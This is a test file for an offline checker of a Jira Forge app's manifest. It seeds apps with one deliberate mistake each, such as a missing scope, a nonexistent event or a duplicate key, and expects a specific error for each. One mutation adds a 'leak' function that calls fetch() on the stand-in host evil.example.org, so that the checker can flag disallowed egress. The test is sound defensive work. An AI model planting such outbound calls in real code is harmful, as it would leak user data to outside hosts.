import { execFile } from 'node:child_process';
import { mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';

/**
 * The offline check must find what Forge would refuse, and for the right reason: the app's own manifest, with one
 * mistake at a time, beside sources that are as small as they can be.
 */

const root = path.join(__dirname, '../..');
const script = path.join(root, 'forge-app/scripts/check-manifest.mjs');
const manifest = readFileSync(path.join(root, 'manifest.yml'), 'utf8');

const SOURCES: Record<string, string> = {
  'src/index.ts': `
    import { asApp, asUser, invokeRemote, route } from '@forge/api';
    import { Queue } from '@forge/events';
    import { kvs } from '@forge/kvs';
    const queue = new Queue({ key: 'crm-push' });
    export const onJiraEvent = () => queue.push({ body: {} });
    export const crmRecordOfIssue = () => undefined;
    export const pushToCrm = () => kvs.get('x');
    export const onHeartbeat = () => invokeRemote('crm-api', { path: '/api/app/system-token', method: 'POST' });
    export const whoActs = () => asApp().requestJira(route\`/rest/api/3/user?accountId=x\`);
    export const resolver = () => asUser().requestJira(route\`/rest/api/3/mypermissions?permissions=ADMINISTER\`);
  `,
  'crm-api/src/jira/catalog.ts': `
    declare const http: (request: { method: string; path: string }) => Promise<unknown>;
    export const priorities = () => http({ method: 'GET', path: 'rest/api/3/priority' });
    export const people = () => read('rest/api/3/user/search');
    async function read(path: string) {
      return http({ method: 'GET', path });
    }
    export async function edit(id: string) {
      const path = \`rest/api/3/issue/\${encodeURIComponent(id)}\`;
      await http({ method: 'PUT', path });
    }
    export const report = () => http({ method: 'POST', path: 'app/report-accounts/' });
    export const search = () => read('rest/api/3/project/search');
  `,
  'forge-app/src/frontend/issue-panel.tsx': 'export {};',
  'forge-app/src/frontend/admin-page.tsx': 'export {};',
};

type Mistake = { name: string; from: string | RegExp; to: string; file?: string; says: RegExp };

const MISTAKES: Mistake[] = [
  {
    name: 'an event that does not exist',
    from: 'commented:issue',
    to: 'created:comment',
    says: /avi:jira:created:comment, which Jira never sends/,
  },
  {
    name: 'the events’ scope missing',
    from: '- read:jira-work',
    to: '- write:jira-work',
    says: /gets no avi:jira:created:issue without the scope.*read:jira-work/,
  },
  {
    name: 'a scope that does not exist',
    from: '- storage:app',
    to: '- storage:app\n    - read:everything',
    says: /read:everything/,
  },
  {
    name: 'storage:app missing beside @forge/kvs',
    from: '- storage:app',
    to: '',
    says: /@forge\/kvs needs the scope storage:app/,
  },
  {
    name: 'the same key twice',
    from: '- key: crm-push-consumer',
    to: '- key: push-to-crm',
    says: /duplicate module key 'push-to-crm'/,
  },
  {
    name: 'a function that is not declared',
    from: 'function: on-jira-event',
    to: 'function: on-jira-evnt',
    says: /on-jira-evnt/,
  },
  { name: 'a handler that nothing exports', from: 'index.pushToCrm', to: 'index.pushToCmr', says: /pushToCmr/ },
  {
    name: 'a handler file that is missing',
    from: 'index.resolver',
    to: 'elsewhere.resolver',
    says: /has no file src\/elsewhere\.ts/,
  },
  {
    name: 'a page whose file is missing',
    from: 'frontend/admin-page.tsx',
    to: 'frontend/admin.tsx',
    says: /resource admin-page has no file/,
  },
  {
    name: 'a variable that is not declared',
    from: /baseUrl: .*/,
    // biome-ignore lint/suspicious/noTemplateCurlyInString: a variable of the manifest
    to: 'baseUrl: https://${CRM_HOST}',
    says: /\$\{CRM_HOST\} is not declared/,
  },
  { name: 'an egress remote that does not exist', from: '- remote: crm-api', to: '- remote: crm', says: /crm\b/ },
  {
    name: 'a queue that nobody consumes',
    from: 'queue: crm-push',
    to: 'queue: crm-pushes',
    says: /No consumer takes from the queue crm-push\./,
  },
  { name: 'a module of an unknown type', from: 'jira:issueContext:', to: 'jira:issueContexts:', says: /issueContexts/ },
  { name: 'a runtime that Forge has retired', from: 'nodejs22.x', to: 'nodejs18.x', says: /nodejs18\.x|runtime/i },
  { name: 'YAML that can’t be read', from: 'modules:\n', to: 'modules:\n\t- x\n', says: /manifest\.yml/ },
  {
    name: 'a route whose scope is missing',
    from: '- read:jira-user',
    to: '',
    says: /read:jira-user/,
  },
  {
    name: 'an event of the life cycle that does not exist',
    from: 'avi:forge:upgraded:app',
    to: 'avi:forge:uninstalled:app',
    says: /avi:forge:uninstalled:app, which Jira never sends/,
  },
  {
    name: 'an hourly trigger whose endpoint does not exist',
    from: 'endpoint: system-token',
    to: 'endpoint: system-tokens',
    says: /calls the endpoint system-tokens, which does not exist/,
  },
  {
    name: 'an hourly trigger whose endpoint gets no token',
    from: /(path: \/api\/app\/system-token\n\s+auth:\n\s+appSystemToken:\n\s+enabled:) true/,
    to: '      path: /api/app/system-token',
    says: /its endpoint system-token needs auth.appSystemToken/,
  },
  {
    name: 'an endpoint without an address',
    from: /route:\n\s+path: \/api\/app\/uninstalled/,
    to: '',
    says: /endpoint app-uninstalled needs a route\.path/,
  },
  {
    name: 'an endpoint of a remote that does not exist',
    from: /(key: system-token\n\s+remote:) crm-api/,
    to: 'key: system-token\n      remote: crm',
    says: /'crm'/,
  },
  {
    name: 'the app’s token without its scope',
    from: '- read:app-system-token',
    to: '',
    says: /read:app-system-token/,
  },
  {
    name: 'a remote that is invoked but may not compute',
    from: '- compute',
    to: '',
    says: /needs compute/,
  },
  {
    name: 'a sixth scheduled trigger',
    from: '  scheduledTrigger:\n',
    to: `  scheduledTrigger:\n${['a', 'b', 'c', 'd'].map((key) => `    - key: more-${key}\n      function: on-heartbeat\n      interval: day\n`).join('')}`,
    says: /There are 6 scheduledTriggers; Forge takes 5/,
  },
  {
    name: 'a second trigger every five minutes',
    from: 'interval: hour',
    to: 'interval: fiveMinute',
    says: /There are 2 fiveMinute triggers; Forge takes 1/,
  },
  {
    name: 'a route whose scope nobody looked up',
    file: 'src/index.ts',
    from: '/rest/api/3/mypermissions?permissions=ADMINISTER',
    to: '/rest/api/3/dashboard',
    says: /scope of \/rest\/api\/3\/dashboard is not in/,
  },
  {
    name: 'a call of the CRM whose scope the app does not ask for',
    file: 'crm-api/src/jira/catalog.ts',
    from: 'rest/api/3/priority',
    to: 'rest/api/3/priority/search',
    says: /The CRM calls GET \/rest\/api\/3\/priority\/search .* needs the scope manage:jira-configuration/,
  },
  {
    name: 'a write of the CRM without the scope to write',
    from: '- write:jira-work',
    to: '',
    says: /The CRM calls PUT \/rest\/api\/3\/issue\/x .* needs the scope write:jira-work/,
  },
  {
    name: 'the CRM’s report of personal data without its scope',
    file: 'manifest.yml',
    from: '- report:personal-data',
    to: '',
    says: /The CRM calls POST \/app\/report-accounts\/ .* needs the scope report:personal-data/,
  },
  {
    name: 'a call of the CRM whose scope nobody looked up',
    file: 'crm-api/src/jira/catalog.ts',
    from: "read('rest/api/3/project/search')",
    to: "read('rest/api/3/dashboard')",
    says: /The scope of GET \/rest\/api\/3\/dashboard is not in/,
  },
  {
    name: 'a call of the CRM whose method can’t be told',
    file: 'crm-api/src/jira/catalog.ts',
    from: "read('rest/api/3/project/search')",
    to: "unknown('rest/api/3/project/search')",
    says: /The method of the call to rest\/api\/3\/project\/search can’t be told/,
  },
  {
    name: 'a fetch to a host that is not allowed',
    file: 'src/index.ts',
    from: 'export const pushToCrm',
    to: "export const leak = () => fetch('https://evil.example.org/x');\nexport const pushToCrm",
    says: /evil\.example\.org/,
  },
];

let folder: string;
let outcome: Map<string, string>;

/** Writes an app with one mistake (or none) and says where. */
function writeApp(name: string, mistake?: Mistake): string {
  const dir = path.join(folder, name);
  const files = { 'manifest.yml': manifest, ...SOURCES };
  if (mistake) {
    const file = (mistake.file ?? 'manifest.yml') as keyof typeof files;
    const before = files[file] ?? '';
    const after = before.replace(mistake.from, () => mistake.to);
    if (after === before) throw new Error(`The mistake "${mistake.name}" changes nothing in ${file}.`);
    files[file] = after;
  }
  for (const [file, text] of Object.entries(files)) {
    mkdirSync(path.dirname(path.join(dir, file)), { recursive: true });
    writeFileSync(path.join(dir, file), text);
  }
  return dir;
}

beforeAll(async () => {
  folder = mkdtempSync(path.join(tmpdir(), 'check-manifest-'));
  const dirs = [writeApp('none'), ...MISTAKES.map((mistake, i) => writeApp(`m${i}`, mistake))];
  // One process for all: loading Atlassian's packages takes longer than any check.
  const output = await new Promise<string>((resolve, reject) => {
    execFile(process.execPath, [script, ...dirs], { timeout: 300_000 }, (error, stdout, stderr) => {
      if (error && error.code !== 1) reject(new Error(`${error.message}\n${stderr}`));
      else resolve(stdout);
    });
  });
  const parts = output.split(/^== /m).slice(1);
  outcome = new Map(parts.map((part) => [path.basename(part.split('\n')[0] ?? ''), part]));
}, 310_000);

afterAll(() => rmSync(folder, { recursive: true, force: true }));

test('the manifest of this repository passes beside sources that fit it', () => {
  expect(outcome.get('none')).toContain('The Forge app is in order.');
  expect(outcome.get('none')).not.toMatch(/^(ERROR|WARNING)/m);
});

test.each(MISTAKES.map((mistake, i) => ({ ...mistake, i })))('finds $name', ({ i, says }) => {
  const errors = (outcome.get(`m${i}`) ?? '').split('\n').filter((line) => line.startsWith('ERROR'));
  expect(errors.join('\n')).toMatch(says);
});
